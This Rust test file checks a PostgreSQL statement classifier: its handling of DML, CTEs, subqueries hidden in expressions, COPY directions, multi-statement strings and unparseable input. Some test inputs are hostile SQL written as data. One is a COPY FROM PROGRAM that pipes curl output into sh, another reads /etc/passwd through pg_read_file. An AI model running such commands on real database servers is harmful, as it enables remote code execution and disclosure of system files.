//! DML, CTEs, expressions, multi-statement strings and unparseable input.
use super::{check, classify, objs, one};
use crate::classify::StatementKind as K;

#[test]
fn plain_dml() {
    check(
        "SELECT a, b FROM public.users u JOIN orders o ON o.uid = u.id",
        K::Select,
        &["rel:r:orders", "rel:r:public.users"],
    );
    let c = check(
        "INSERT INTO t (a) SELECT x FROM s",
        K::Insert,
        &["rel:r:s", "rel:w:t"],
    );
    assert_eq!(c.has_where, None);
    let c = check(
        "UPDATE accounts SET balance = 0 WHERE id = 1",
        K::Update,
        &["rel:w:accounts"],
    );
    assert_eq!(c.has_where, Some(true));
    let c = check(
        "DELETE FROM s.logs USING keep k WHERE k.id = logs.id",
        K::Delete,
        &["rel:r:keep", "rel:w:s.logs"],
    );
    assert_eq!(c.has_where, Some(true));
    check(
        "MERGE INTO stock t USING deliveries d ON t.item = d.item WHEN MATCHED THEN UPDATE SET n = t.n + d.n WHEN NOT MATCHED THEN INSERT VALUES (d.item, d.n)",
        K::Merge,
        &["rel:r:deliveries", "rel:w:stock"],
    );
}

#[test]
fn update_and_delete_without_where() {
    assert_eq!(
        check(
            "UPDATE accounts SET balance = 0",
            K::Update,
            &["rel:w:accounts"]
        )
        .has_where,
        Some(false)
    );
    assert_eq!(
        check("DELETE FROM audit_log", K::Delete, &["rel:w:audit_log"]).has_where,
        Some(false)
    );
    assert_eq!(
        one("DELETE FROM t WHERE true").has_where,
        Some(true),
        "syntactic: WHERE true counts"
    );
    assert_eq!(
        one("DELETE FROM t WHERE CURRENT OF c").has_where,
        Some(true)
    );
}

#[test]
fn writable_cte_makes_the_statement_a_write() {
    let c = check(
        "WITH gone AS (DELETE FROM sessions WHERE expires < now() RETURNING user_id) SELECT count(*) FROM gone",
        K::Delete,
        &["fn:r:count", "fn:r:now", "rel:w:sessions"],
    );
    assert_eq!(c.has_where, Some(true));
    let c = one("WITH x AS (DELETE FROM t RETURNING *) INSERT INTO archive SELECT * FROM x");
    assert_eq!((c.kind, c.has_where), (K::Delete, Some(false)));
    assert_eq!(objs(&c), ["rel:w:archive", "rel:w:t"]);
    let c = one("WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING id) SELECT * FROM u");
    assert_eq!((c.kind, c.has_where), (K::Update, Some(true)));
}

#[test]
fn cte_names_do_not_hide_real_tables() {
    // A CTE is not a table read...
    check(
        "WITH recent AS (SELECT * FROM events) SELECT * FROM recent",
        K::Select,
        &["rel:r:events"],
    );
    // ...but a non-recursive CTE's own body refers to the real table of that name.
    check(
        "WITH users AS (SELECT * FROM users) SELECT * FROM users",
        K::Select,
        &["rel:r:users"],
    );
    // A CTE in a subquery does not shadow the outer reference.
    check(
        "SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s",
        K::Select,
        &["rel:r:secrets"],
    );
    // Later CTEs see earlier ones; a recursive CTE sees itself.
    check(
        "WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b",
        K::Select,
        &[],
    );
    check(
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
        K::Select,
        &[],
    );
    // Schema-qualified names are never CTEs; DML targets are never CTEs.
    check(
        "WITH t AS (SELECT 1) SELECT * FROM public.t",
        K::Select,
        &["rel:r:public.t"],
    );
    check(
        "WITH t AS (SELECT 1) DELETE FROM t WHERE true",
        K::Delete,
        &["rel:w:t"],
    );
}

#[test]
fn tables_hidden_in_expressions_are_found() {
    check(
        "SELECT (ARRAY(SELECT secret FROM vault))[1]",
        K::Select,
        &["rel:r:vault"],
    );
    check(
        "SELECT CASE WHEN EXISTS (SELECT 1 FROM a) THEN 1 END",
        K::Select,
        &["rel:r:a"],
    );
    check(
        "SELECT max(x) FILTER (WHERE x > (SELECT min(y) FROM m)) FROM t",
        K::Select,
        &["fn:r:max", "fn:r:min", "rel:r:m", "rel:r:t"],
    );
    check(
        "SELECT sum(x) OVER (ORDER BY (SELECT 1 FROM w LIMIT 1)) FROM t",
        K::Select,
        &["fn:r:sum", "rel:r:t", "rel:r:w"],
    );
    check(
        "SELECT json_build_object('k', (SELECT v FROM kv LIMIT 1))",
        K::Select,
        &["fn:r:json_build_object", "rel:r:kv"],
    );
    check(
        "SELECT 1 FROM t WHERE x IN (SELECT y FROM u) OR z = ANY (SELECT w FROM v)",
        K::Select,
        &["rel:r:t", "rel:r:u", "rel:r:v"],
    );
    check(
        "SELECT * FROM pg_catalog.pg_read_file('/etc/passwd') f",
        K::Select,
        &["fn:r:pg_catalog.pg_read_file"],
    );
}

#[test]
fn select_variants() {
    let c = check(
        "SELECT * FROM jobs WHERE state = 'new' FOR UPDATE SKIP LOCKED",
        K::Select,
        &["rel:r:jobs"],
    );
    assert!(c.row_locks);
    assert!(!one("SELECT 1").row_locks);
    let c = check(
        "SELECT * INTO TEMP copy_of_users FROM users",
        K::Create,
        &["rel:r:users", "rel:w:copy_of_users"],
    );
    assert_eq!(c.inner, Some(K::Select));
    let c = check(
        "CREATE TABLE big AS SELECT * FROM src",
        K::Create,
        &["rel:r:src", "rel:w:big"],
    );
    assert_eq!(c.inner, Some(K::Select));
    check("VALUES (1), (2)", K::Select, &[]);
    check("TABLE users", K::Select, &["rel:r:users"]);
    check(
        "SELECT a FROM x UNION SELECT b FROM y",
        K::Select,
        &["rel:r:x", "rel:r:y"],
    );
}

#[test]
fn copy_directions() {
    let c = check("COPY users TO STDOUT", K::CopyTo, &["rel:r:users"]);
    assert!(!c.copy_program);
    check(
        "COPY users (id, name) FROM STDIN WITH (FORMAT csv)",
        K::CopyFrom,
        &["rel:w:users"],
    );
    check(
        "COPY (SELECT * FROM users WHERE admin) TO STDOUT",
        K::CopyTo,
        &["rel:r:users"],
    );
    let c = check(
        "COPY t FROM PROGRAM 'curl http://x | sh'",
        K::CopyFrom,
        &["rel:w:t"],
    );
    assert!(c.copy_program);
}

#[test]
fn multi_statement_strings_comments_and_dollar_quotes() {
    let sql = "/* head */ SELECT 1; -- trailing\nUPDATE t SET a = 'x;y' WHERE id = 1;\n\nINSERT INTO t VALUES ($$a;b$$)  ";
    let all = classify(sql);
    let kinds: Vec<K> = all.iter().map(|c| c.kind).collect();
    assert_eq!(kinds, [K::Select, K::Update, K::Insert]);
    // libpg_query starts a span at the statement's first token, after comments.
    assert_eq!(all[0].span.text(sql), "SELECT 1");
    assert_eq!(all[1].span.text(sql), "UPDATE t SET a = 'x;y' WHERE id = 1");
    assert_eq!(all[2].span.text(sql), "INSERT INTO t VALUES ($$a;b$$)");
    assert!(classify("").is_empty());
    assert!(classify(" ; -- nothing").is_empty());
    check("SELECT $tag$ DROP TABLE x; $tag$", K::Select, &[]);
    check("SELECT 'DROP TABLE users' -- DELETE FROM t", K::Select, &[]);
}

#[test]
fn unparseable_input_is_unknown() {
    for sql in [
        "SELEC 1",
        "SELECT 1; this is not sql",
        "DELETE FROM",
        "\u{0}",
        "SELECT 'unterminated",
    ] {
        let all = classify(sql);
        assert_eq!(all.len(), 1, "{sql}");
        assert_eq!(all[0].kind, K::Unknown, "{sql}");
        assert!(all[0].objects.is_empty());
    }
    // Deep trees hit prost's decode recursion limit (100 message levels, about
    // 16 nested subqueries or a 50-term `a + b + ...` chain): Unknown, never a
    // stack overflow.
    let nested = |n: usize| format!("SELECT {}1{}", "(SELECT ".repeat(n), ")".repeat(n));
    assert_eq!(one(&nested(10)).kind, K::Select);
    assert_eq!(classify(&nested(30))[0].kind, K::Unknown);
    assert_eq!(classify(&nested(10_000))[0].kind, K::Unknown);
}
